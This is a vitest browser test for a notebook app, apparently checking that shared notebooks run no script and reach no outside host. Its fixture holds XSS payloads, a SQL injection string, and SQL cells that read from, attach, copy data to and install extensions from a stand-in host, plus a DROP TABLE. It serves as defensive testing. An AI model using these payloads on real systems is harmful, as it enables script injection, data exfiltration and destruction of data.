import { afterAll, beforeAll, expect, test } from 'vitest';
import { formatRoute } from '../../src/share/route.ts';
import { cellStates, startPages, type Pages } from './pages.ts';

let pages: Pages;

beforeAll(async () => {
	pages = await startPages();
}, 900_000);

afterAll(() => pages?.close());

const NOTEBOOK = `---
title: <img src=x onerror="window.ran=1"> / <script>window.ran=2</script>
---

<script>window.ran=3</script> <img src="http://other.example/a.png" onerror="window.ran=4">

[one](javascript:window.ran=5) ![two](http://other.example/b.png) <svg onload="window.ran=6"></svg>

<iframe src="http://other.example/c"></iframe> <style>body{background:url(http://other.example/d)}</style>

{{markup.html}}

\`\`\`input name=who type=text
label: <b onclick="window.ran=7">who</b>
default: "'; DROP TABLE tasks; --"
\`\`\`

\`\`\`sql name=markup
SELECT '<img src=http://other.example/e onerror="window.ran=8">' AS html, $who AS who, count(*) AS n FROM tasks
\`\`\`

\`\`\`sql name=leak
FROM read_csv('http://other.example/leak?x')
\`\`\`

\`\`\`sql name=attach
ATTACH 'http://other.example/db' AS other
\`\`\`

\`\`\`sql name=unlock
SET enable_external_access = true
\`\`\`

\`\`\`sql name=install
INSTALL httpfs; LOAD httpfs; SELECT 1
\`\`\`

\`\`\`sql name=write
COPY tasks TO 'http://other.example/out.csv'
\`\`\`

\`\`\`sql name=harm
DROP TABLE tasks; SELECT 1
\`\`\`

\`\`\`chart name=linked from=markup
mark: dot
x: n
href: html
\`\`\`

\`\`\`chart name=pictures from=markup
mark: image
x: n
src: html
\`\`\`

\`\`\`chart name=styled from=markup
mark: dot
x: n
style: "background: url(http://other.example/f)"
\`\`\`

\`\`\`chart name=filled from=markup
mark: dot
x: n
fill: url(http://other.example/g)
\`\`\`

\`\`\`chart name=picture from=markup
mark: dot
x: n
title: <img src=x onerror="window.ran=9">
\`\`\`
`;

/** The cells that only carry hostile values; all others ask for what no cell may have. */
const ALLOWED = ['who', 'markup', 'picture'];

test('a shared notebook runs no script, reaches no other host and keeps hostile values as text', async () => {
	const view = { data: null, notebook: null, source: NOTEBOOK, parameters: {} };
	const hash = formatRoute({ kind: 'shared', view, lang: 'en', embed: false });
	const { page, context, faults } = await pages.open(hash, 1000);
	const states = Object.entries(await cellStates(page));
	expect(states.filter(([, state]) => state === 'done').map(([name]) => name)).toEqual(ALLOWED);
	expect(states.filter(([, state]) => state === 'error')).toHaveLength(10);
	await page.getByText('one', { exact: true }).click();
	await page.locator('[data-cell=markup]').getByRole('button', { name: 'Data' }).click();
	const shown = await page.locator('[data-cell=markup]').innerText();
	expect(shown).toContain('<img src=http://other.example/e');
	expect(shown).toContain("'; DROP TABLE tasks; --");
	expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
	expect(await page.locator('main :is(script, iframe, img, image), .prose style').count()).toBe(0);
	expect(faults).toEqual([]);
	await context.close();
}, 120_000);
